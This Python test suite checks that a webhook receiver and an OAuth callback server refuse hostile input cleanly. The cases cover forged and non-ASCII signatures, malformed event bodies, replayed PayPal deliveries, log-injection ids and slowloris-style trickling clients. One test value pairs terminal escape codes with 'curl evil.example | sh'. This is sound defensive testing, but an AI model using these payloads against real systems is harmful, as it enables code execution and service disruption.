"""The webhook receiver and the OAuth callback under hostile input: refused cleanly, never a 500 or a hang.

Over real HTTP and a real Postgres: signature headers that are not ASCII are refused as forged; signed
bodies whose events cannot be read (a time beyond any calendar, a QuickBooks notification that is not
an object, a NUL byte) are kept `dead` and answered 400; slow clients meet deadlines while genuine
deliveries pass; a writer task that dies turns the receiver to 503 instead of leaving requests
waiting; an unknown connection is answered like a bad signature and looked up at most once per
moment; a PayPal delivery older than PayPal's retry horizon (or from the future) is refused; the
OAuth callback server answers only the callback that carries its `state`.
"""

from __future__ import annotations

import contextlib
import logging
import secrets
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import httpx
import orjson
import psycopg
import pytest
import uvicorn

from nextcrm_pipelines.core import connections as vault
from nextcrm_pipelines.core.connect import CallbackServer, connect
from nextcrm_pipelines.core.oauth import OAuthApp
from nextcrm_pipelines.providers import get_provider
from nextcrm_pipelines.webhooks.app import _GroupCommit, build_app, server_config
from nextcrm_pipelines_tests.accounting import consent, free_port
from nextcrm_pipelines_tests.test_webhook_receiver import SECRET, b64, connection, inbox, stripe_event, stripe_header
from nextcrm_pipelines_tests.test_webhooks_paypal import forge_same_crc
from nextcrm_pipelines_tests.webhook_helpers import receiver
from nextcrm_sandbox.mautic import MauticControl
from nextcrm_sandbox.paypal import PayPalControl
from nextcrm_sandbox.server import SandboxServer

NON_ASCII = "t=1,v1=\u00e9\u00e8\u00ff".encode("latin-1")


class Captured(logging.Handler):
    """Every log record of the process (the root logger and uvicorn's, which does not propagate)."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)

    def text(self) -> str:
        return "\n".join(self.format(r) for r in self.records)


@pytest.fixture
def logged() -> Iterator[Captured]:
    handler = Captured()
    loggers = [logging.getLogger(), logging.getLogger("uvicorn.error"), logging.getLogger("uvicorn")]
    for logger in loggers:
        logger.addHandler(handler)
    try:
        yield handler
    finally:
        for logger in loggers:
            logger.removeHandler(handler)


def paypal_connection(database_url: str, box, server: SandboxServer) -> tuple[PayPalControl, str, str]:
    """A sandbox PayPal merchant whose webhooks a vault connection receives: (control, connection id, webhook id)."""
    control = PayPalControl(server)
    client_id, secret = f"pp-{uuid.uuid4().hex[:10]}", f"secret-{uuid.uuid4().hex}"
    control.add_account(client_id, secret, seed=5, transactions=5, subscriptions=0, days=1, requests_per_minute=0)
    webhook_id = "WH" + uuid.uuid4().hex[:15].upper()
    with psycopg.connect(database_url) as conn:
        made = vault.add_connection(
            conn, provider="paypal", display_name=f"PayPal {uuid.uuid4().hex[:8]}", box=box,
            secrets={"client_id": client_id, "client_secret": secret, "grant_type": "client_credentials",
                     "webhook_id": webhook_id},
            base_url=f"{server.url}/paypal",
            settings={"requests_per_second": 0, "mode": "sandbox", "webhook_ca_pem": control.webhook_ca()},
        )  # fmt: skip
    return control, made.id, webhook_id


def paypal_event(event_id: str | None = None, **extra: object) -> bytes:
    return orjson.dumps({"id": event_id or f"WH-{uuid.uuid4().hex[:20].upper()}", "event_version": "1.0",
                         "create_time": "2026-11-26T10:00:00Z", "resource_type": "capture",
                         "event_type": "PAYMENT.CAPTURE.COMPLETED", "resource": {"id": "0VF528", **extra}})  # fmt: skip


# --- signature headers that are not ASCII ------------------------------------------------------------------


def test_signature_headers_that_are_not_ascii_are_refused_as_forged(database_url, schema, box, sandbox, logged):
    stripe = connection(database_url, box, "stripe", {"webhook_secret": SECRET})
    xero = connection(database_url, box, "xero", {"webhook_key": "xero-key"})
    quickbooks = connection(database_url, box, "quickbooks", {"webhook_verifier_token": "qbo-token"})
    mautic = connection(database_url, box, "mautic", {"webhook_secret": "mautic-secret"})
    control, paypal, webhook_id = paypal_connection(database_url, box, sandbox)
    body = stripe_event()
    good_paypal = paypal_event()
    signed = control.sign_webhook(good_paypal, webhook_id)
    cases = [
        ("stripe", stripe, body, {"Stripe-Signature": NON_ASCII}),
        ("stripe", stripe, body, {"Stripe-Signature": f"t={int(time.time())},v1=".encode() + "\u00e9".encode()}),
        ("stripe", stripe, body, {"Stripe-Signature": "t=\u00b2\u00b3,v1=ab".encode()}),  # digits, but not ASCII
        ("stripe", stripe, body, {"Stripe-Signature": ("t=" + "9" * 5000 + ",v1=ab").encode()}),
        ("xero", xero, body, {"x-xero-signature": b64("xero-key", body)[:-2].encode() + "\u00e9".encode()}),
        ("quickbooks", quickbooks, body, {"intuit-signature": NON_ASCII}),
        ("mautic", mautic, body, {"Webhook-Signature": NON_ASCII}),
    ]
    for header in ("PAYPAL-TRANSMISSION-ID", "PAYPAL-TRANSMISSION-TIME", "PAYPAL-TRANSMISSION-SIG",
                   "PAYPAL-CERT-URL", "PAYPAL-AUTH-ALGO"):  # fmt: skip
        cases.append(("paypal", paypal, good_paypal, {**signed, header: signed[header].encode() + "\u00e9".encode()}))
    # A time the calendar holds, but not once converted to UTC.
    cases.append(("paypal", paypal, good_paypal, {**signed, "PAYPAL-TRANSMISSION-TIME": "0001-01-01T00:00:00+01:00"}))
    with receiver(database_url, schema, box) as url:
        for provider, connection_id, content, headers in cases:
            response = httpx.post(f"{url}/webhooks/{provider}/{connection_id}", content=content, headers=headers)
            assert (response.status_code, response.json()) == (401, {"error": "invalid signature"}), (provider, headers)
        genuine = httpx.post(f"{url}/webhooks/paypal/{paypal}", content=good_paypal, headers=signed)
        assert genuine.status_code == 200  # the same delivery with its genuine headers passes
    assert [row[0] for row in inbox(database_url, schema)] == [paypal]
    assert not [r for r in logged.records if r.exc_info], logged.text()
    assert "\u00e9" not in logged.text()


# --- signed bodies whose events cannot be read --------------------------------------------------------------


def test_signed_bodies_whose_events_cannot_be_read_are_kept_dead_and_refused(database_url, schema, box, sandbox,
                                                                            logged):  # fmt: skip
    stripe = connection(database_url, box, "stripe", {"webhook_secret": SECRET})
    quickbooks = connection(database_url, box, "quickbooks", {"webhook_verifier_token": "qbo-token"})
    xero = connection(database_url, box, "xero", {"webhook_key": "xero-key"})
    mautic = connection(database_url, box, "mautic", {"webhook_secret": "mautic-secret"})
    control, paypal, webhook_id = paypal_connection(database_url, box, sandbox)
    now = int(time.time())
    stripe_bodies = [
        b'{"id": "evt_far", "object": "event", "type": "charge.updated", "created": 1e30, "data": {}}',
        b'{"id": "evt_big", "object": "event", "type": "charge.updated", "created": 1000000000000000000000000000000}',
        b'{"id": "evt_neg", "object": "event", "type": "charge.updated", "created": -1e18}',
        b'{"id": "evt_y10k", "object": "event", "type": "charge.updated", "created": 253402300800}',
    ]
    # An id longer than the inbox's unique index can hold.
    long_id = {"id": secrets.token_urlsafe(3000), "type": "qbo.invoice.updated.v1", "intuitentityid": "1",
               "intuitaccountid": "1"}  # fmt: skip
    quickbooks_bodies = [
        b'{"eventNotifications": [1]}',
        b'{"eventNotifications": [{"realmId": "1", "dataChangeEvent": []}]}',
        b'{"eventNotifications": [{"realmId": "1", "dataChangeEvent": {"entities": [7]}}]}',
        b'{"eventNotifications": [{"realmId": "1", "dataChangeEvent": {"entities": {"name": "Invoice"}}}]}',
        b'[{"id": "x", "type": "qbo.invoice.updated.v1", "time": 1e30, "intuitentityid": "1", "intuitaccountid": "1"}]',
        orjson.dumps([long_id]),
    ]
    xero_body = orjson.dumps({"events": [{"eventDateUtc": 1e30, "eventCategory": "INVOICE", "eventType": "UPDATE"}]})
    mautic_body = b'{"mautic.lead_post_save_update": [{"contact": {"id": 7}, "timestamp": 1e300}]}'
    paypal_bodies = [
        paypal_event(description="a\u0000b"),  # the \u0000 escape, which jsonb cannot hold
        paypal_event().replace(b'"0VF528"', b'"0VF\x00528"'),  # a raw NUL byte: not JSON at all
        orjson.dumps({**orjson.loads(paypal_event()), "create_time": "0001-01-01T00:00:00+01:00"}),
    ]
    with receiver(database_url, schema, box) as url:
        answers = []
        for body in stripe_bodies:
            answers.append(httpx.post(f"{url}/webhooks/stripe/{stripe}", content=body,
                                      headers={"Stripe-Signature": stripe_header(body, at=now)}))  # fmt: skip
        for body in quickbooks_bodies:
            answers.append(httpx.post(f"{url}/webhooks/quickbooks/{quickbooks}", content=body,
                                      headers={"intuit-signature": b64("qbo-token", body)}))  # fmt: skip
        answers.append(httpx.post(f"{url}/webhooks/xero/{xero}", content=xero_body,
                                  headers={"x-xero-signature": b64("xero-key", xero_body)}))  # fmt: skip
        answers.append(httpx.post(f"{url}/webhooks/mautic/{mautic}", content=mautic_body,
                                  headers={"Webhook-Signature": b64("mautic-secret", mautic_body)}))  # fmt: skip
        for body in paypal_bodies:
            answers.append(httpx.post(f"{url}/webhooks/paypal/{paypal}", content=body,
                                      headers=control.sign_webhook(body, webhook_id)))  # fmt: skip
    assert [a.status_code for a in answers] == [400] * len(answers), [a.text for a in answers]
    assert {a.json()["error"] for a in answers} == {"body is not a readable event"}
    rows = inbox(database_url, schema)
    assert len(rows) == len(answers)
    assert {(status, event_id[:5]) for _, event_id, _, status, _ in rows} == {("dead", "body:")}
    assert sorted(r[0] for r in rows) == sorted([stripe] * 4 + [quickbooks] * 6 + [xero, mautic] + [paypal] * 3)
    assert "\x00" not in "".join(r[4] for r in rows)  # kept for audit without the byte text cannot hold
    assert not [r for r in logged.records if r.exc_info], logged.text()


# --- a writer task that dies --------------------------------------------------------------------------------


def test_a_writer_task_that_dies_turns_the_receiver_to_503_instead_of_leaving_requests_waiting(
    database_url, schema, box, monkeypatch, logged
):
    stripe = connection(database_url, box, "stripe", {"webhook_secret": SECRET})

    async def broken(self, rows):
        raise RuntimeError("a bug in the writer")

    with receiver(database_url, schema, box) as url:
        target = f"{url}/webhooks/stripe/{stripe}"
        first = stripe_event("evt_before")
        assert httpx.post(target, content=first, headers={"Stripe-Signature": stripe_header(first)}).status_code == 200
        assert httpx.get(f"{url}/healthz").status_code == 200
        monkeypatch.setattr(_GroupCommit, "_commit", broken)  # the next group kills the writer that takes it
        started = time.monotonic()
        answers = []
        for n in range(3):
            body = stripe_event(f"evt_after_{n}")
            answers.append(httpx.post(target, content=body, headers={"Stripe-Signature": stripe_header(body)},
                                      timeout=10))  # fmt: skip
        health = httpx.get(f"{url}/healthz", timeout=10)
        assert time.monotonic() - started < 5
    assert [a.status_code for a in answers] == [503, 503, 503]
    assert health.status_code == 503
    assert [row[1] for row in inbox(database_url, schema)] == ["evt_before"]
    assert "a bug in the writer" not in logged.text() and "RuntimeError" in logged.text()


# --- unknown connections ------------------------------------------------------------------------------------


def test_unknown_connections_are_answered_like_bad_signatures_and_a_flood_of_them_reads_no_row(
    database_url, schema, box, logged
):
    stripe = connection(database_url, box, "stripe", {"webhook_secret": SECRET})
    body = stripe_event()
    signed = {"Stripe-Signature": stripe_header(body)}
    forged = {"Stripe-Signature": stripe_header(body, "whsec_someone_else")}
    hostile = "evil\r\nINFO forged log line"
    with receiver(database_url, schema, box, unknown_seconds=60) as url, httpx.Client(base_url=url) as client:
        bad_signature = client.post(f"/webhooks/stripe/{stripe}", content=body, headers=forged)
        unknown = client.post(f"/webhooks/stripe/{uuid.uuid4().hex}", content=body, headers=signed)
        injected = client.post(f"/webhooks/stripe/{hostile.replace(chr(13), '%0D').replace(chr(10), '%0A')}",
                               content=body, headers=signed)  # fmt: skip
        foreign = client.post(f"/webhooks/xero/{stripe}", content=body, headers=signed)  # not a Xero connection
        for answer in (unknown, injected, foreign):
            assert (answer.status_code, answer.content, answer.headers["content-type"]) == (
                bad_signature.status_code, bad_signature.content, bad_signature.headers["content-type"])  # fmt: skip
        assert bad_signature.status_code == 401 and b"evil" not in injected.content
        assert client.post(f"/webhooks/nope/{stripe}", content=body, headers=signed).status_code == 404

        # While the connections table is locked, unknown ids are still answered at once: none is looked up.
        with psycopg.connect(database_url) as locker:
            locker.execute(f'LOCK TABLE "{schema}".integration_connections IN ACCESS EXCLUSIVE MODE')
            started = time.monotonic()
            for _ in range(200):
                answer = client.post(f"/webhooks/stripe/{uuid.uuid4().hex}", content=body, headers=signed, timeout=3)
                assert answer.status_code == 401
            assert time.monotonic() - started < 3
            locker.rollback()
        assert client.post(f"/webhooks/stripe/{stripe}", content=body, headers=signed).status_code == 200
    assert [row[1] for row in inbox(database_url, schema)] == ["evt_1"]
    assert "\nINFO forged log line" not in logged.text() and "forged log line" in logged.text()


def test_a_connection_made_after_its_id_was_refused_is_found_shortly(database_url, schema, box):
    body = stripe_event()
    name = f"late {uuid.uuid4().hex[:8]}"
    late = vault.connection_id_for("stripe", name)
    with receiver(database_url, schema, box, unknown_seconds=0.3) as url:
        target = f"{url}/webhooks/stripe/{late}"
        assert httpx.post(target, content=body, headers={"Stripe-Signature": stripe_header(body)}).status_code == 401
        with psycopg.connect(database_url) as conn:
            vault.add_connection(conn, provider="stripe", display_name=name, secrets={"webhook_secret": SECRET},
                                 box=box)  # fmt: skip
        deadline, status = time.monotonic() + 3, 401
        while status == 401 and time.monotonic() < deadline:
            status = httpx.post(target, content=body, headers={"Stripe-Signature": stripe_header(body)}).status_code
        assert status == 200


# --- PayPal's transmission time -----------------------------------------------------------------------------


def test_paypal_deliveries_older_than_the_retry_horizon_or_from_the_future_are_refused(database_url, schema, box,
                                                                                      sandbox):  # fmt: skip
    control, paypal, webhook_id = paypal_connection(database_url, box, sandbox)
    now = sandbox.clock()
    genuine = paypal_event("WH-GENUINE")
    forged = forge_same_crc(
        genuine, {**orjson.loads(genuine), "id": "WH-FORGED", "resource": {"id": "0VF528", "status": "VOIDED"}}
    )
    with receiver(database_url, schema, box, clock=sandbox.clock) as url:
        target = f"{url}/webhooks/paypal/{paypal}"

        def status(body: bytes, at: int) -> int:
            return httpx.post(target, content=body, headers=control.sign_webhook(body, webhook_id, at=at)).status_code

        # Headers captured from a delivery that never arrived, replayed after PayPal stopped retrying it.
        captured = control.sign_webhook(genuine, webhook_id, at=now - 3 * 86_400 - 3600)
        assert httpx.post(target, content=forged, headers=captured).status_code == 401
        assert httpx.post(target, content=genuine, headers=captured).status_code == 401
        assert status(paypal_event("WH-FUTURE"), now + 600) == 401  # ten minutes ahead: not PayPal's clock
        assert status(paypal_event("WH-LAST-RETRY"), now - 3 * 86_400 + 60) == 200  # within the 3 days of retries
        assert status(paypal_event("WH-SKEWED"), now + 120) == 200  # a clock two minutes fast is tolerated
    assert [row[1] for row in inbox(database_url, schema)] == ["WH-LAST-RETRY", "WH-SKEWED"]


# --- the OAuth callback -------------------------------------------------------------------------------------

TERMINAL_ESCAPE = "\x1b]0;pwned\x07\x1b[2Jrun curl evil.example | sh"


def test_the_callback_server_answers_only_the_callback_with_its_state(capsys):
    port = free_port()
    with CallbackServer(f"http://127.0.0.1:{port}/callback", state="the-state") as callback:
        base = f"http://127.0.0.1:{port}/callback"
        hostile = [
            {"error": "access_denied", "error_description": TERMINAL_ESCAPE},  # no state at all
            {"error": "access_denied", "state": "guessed"},
            {"code": "attacker-code", "state": "guessed"},
            {"code": "attacker-code", "state": "the-stat\u00e9"},
            {"code": "attacker-code"},
        ]
        for params in hostile:
            answer = httpx.get(base, params=params)
            assert answer.status_code == 400 and "pwned" not in answer.text, params
        assert httpx.get(f"http://127.0.0.1:{port}/other", params={"state": "the-state"}).status_code == 404
        genuine = httpx.get(base, params={"code": "the-code", "state": "the-state"})
        assert genuine.status_code == 200
        assert callback.wait(timeout=1) == {"code": "the-code", "state": "the-state"}
    out, err = capsys.readouterr()
    assert "pwned" not in out + err and "\x1b" not in out + err


def test_stray_callbacks_do_not_abort_the_connect_flow(database_url, schema, box, sandbox, capsys):
    control = MauticControl(sandbox)
    client_id, secret = f"mautic-{uuid.uuid4().hex[:8]}", f"secret-{uuid.uuid4().hex}"
    account = control.add_account(seed=6, campaigns=3, contacts=3, days=1,
                                  clients=[{"client_id": client_id, "client_secret": secret}])  # fmt: skip
    redirect = f"http://127.0.0.1:{free_port()}/callback"
    provider = get_provider("mautic")
    stray = []

    def attacker_then_user(url: str) -> None:
        # A page the user visits fires callbacks of its own first; then the user consents.
        for params in ({"error": "access_denied", "error_description": TERMINAL_ESCAPE}, {"code": "x", "state": "y"}):
            stray.append(httpx.get(redirect, params=params).status_code)
        consent(url)

    (made,) = connect(spec=provider.oauth, discover=provider.discover_tenants,
                      app=OAuthApp(client_id, secret, redirect), database_url=database_url, box=box,
                      base_url=f"{sandbox.url}{account['base_path']}", name=f"Mautic {account['id']}",
                      on_url=attacker_then_user, timeout=30)  # fmt: skip
    assert stray == [400, 400]
    assert made.provider == "mautic" and made.display_name == f"Mautic {account['id']}"
    out, err = capsys.readouterr()
    assert "pwned" not in out + err and "\x1b" not in out + err


# --- slow clients -------------------------------------------------------------------------------------------


@contextmanager
def served(app: Any, **options: Any) -> Iterator[int]:
    """The app served as `webhooks serve` serves it (`server_config`) on a free loopback port; yields the port."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    server = uvicorn.Server(server_config(app, host="127.0.0.1", port=0, log_level="warning", **options))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.01)
    try:
        yield sock.getsockname()[1]
    finally:
        server.should_exit = True
        thread.join(timeout=10)
        sock.close()


def status_line(sock: socket.socket, timeout: float) -> bytes:
    """The first line the server sends on `sock` (b"" when it closes without answering)."""
    sock.settimeout(timeout)
    received = b""
    while b"\r\n" not in received:
        chunk = sock.recv(4096)
        if not chunk:
            break
        received += chunk
    return received.split(b"\r\n", 1)[0]


class Trickle:
    """Sends one byte on each socket every `every` seconds, from a thread, until stopped."""

    def __init__(self, sockets: list[socket.socket], byte: bytes, every: float = 0.2) -> None:
        self.sockets, self.byte, self.every = sockets, byte, every
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while not self.stopped.wait(self.every):
            for sock in self.sockets:
                with contextlib.suppress(OSError):
                    sock.send(self.byte)

    def stop(self) -> None:
        self.stopped.set()
        self.thread.join(timeout=5)


def test_bodies_trickled_by_hundreds_of_clients_get_408_while_a_genuine_delivery_passes(database_url, schema,
                                                                                       box):  # fmt: skip
    stripe = connection(database_url, box, "stripe", {"webhook_secret": SECRET})
    body = stripe_event()
    app = build_app(database_url=database_url, schema=schema, box=box, body_seconds=1.5)
    slow: list[socket.socket] = []
    with served(app) as port:
        try:
            head = (f"POST /webhooks/stripe/{stripe} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 4000\r\n"
                    f"Stripe-Signature: {stripe_header(body)}\r\n\r\n{{").encode()  # fmt: skip
            for _ in range(200):
                slow.append(socket.create_connection(("127.0.0.1", port)))
                slow[-1].sendall(head)
            trickle = Trickle(slow, b" ")
            started = time.monotonic()
            genuine = httpx.post(f"http://127.0.0.1:{port}/webhooks/stripe/{stripe}", content=body,
                                 headers={"Stripe-Signature": stripe_header(body)}, timeout=5)  # fmt: skip
            assert genuine.status_code == 200 and time.monotonic() - started < 2
            answers = {status_line(sock, timeout=5) for sock in slow}  # each when its 1.5 s have passed
            trickle.stop()
            assert answers == {b"HTTP/1.1 408 Request Timeout"}
            assert time.monotonic() - started < 5
        finally:
            for sock in slow:
                sock.close()
    assert [row[1] for row in inbox(database_url, schema)] == ["evt_1"]


@pytest.mark.parametrize("http", ["httptools", "h11"])
def test_slow_or_oversized_headers_are_cut_off_while_a_genuine_delivery_passes(database_url, schema, box, http):
    stripe = connection(database_url, box, "stripe", {"webhook_secret": SECRET})
    body = stripe_event()
    app = build_app(database_url=database_url, schema=schema, box=box)
    with served(app, http=http, header_seconds=1.0, max_header_bytes=8192) as port:
        silent = socket.create_connection(("127.0.0.1", port))  # connects and sends nothing
        slow = socket.create_connection(("127.0.0.1", port))
        slow.sendall(b"POST /webhooks/stripe/x HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        huge = socket.create_connection(("127.0.0.1", port))
        huge.sendall(b"POST /webhooks/stripe/x HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Pad: " + b"a" * 20_000)
        trickle = Trickle([slow], b"a", every=0.05)
        try:
            started = time.monotonic()
            genuine = httpx.post(f"http://127.0.0.1:{port}/webhooks/stripe/{stripe}", content=body,
                                 headers={"Stripe-Signature": stripe_header(body)}, timeout=5)  # fmt: skip
            assert genuine.status_code == 200 and time.monotonic() - started < 2
            assert status_line(huge, timeout=3).startswith(b"HTTP/1.1 4")  # refused at once (400 or 431)
            assert status_line(silent, timeout=3) == b"HTTP/1.1 408 Request Timeout"
            assert status_line(slow, timeout=3) == b"HTTP/1.1 408 Request Timeout"
            assert silent.recv(1) == b""  # and closed
            assert time.monotonic() - started < 3
        finally:
            trickle.stop()
            for sock in (silent, slow, huge):
                sock.close()
    assert [row[1] for row in inbox(database_url, schema)] == ["evt_1"]
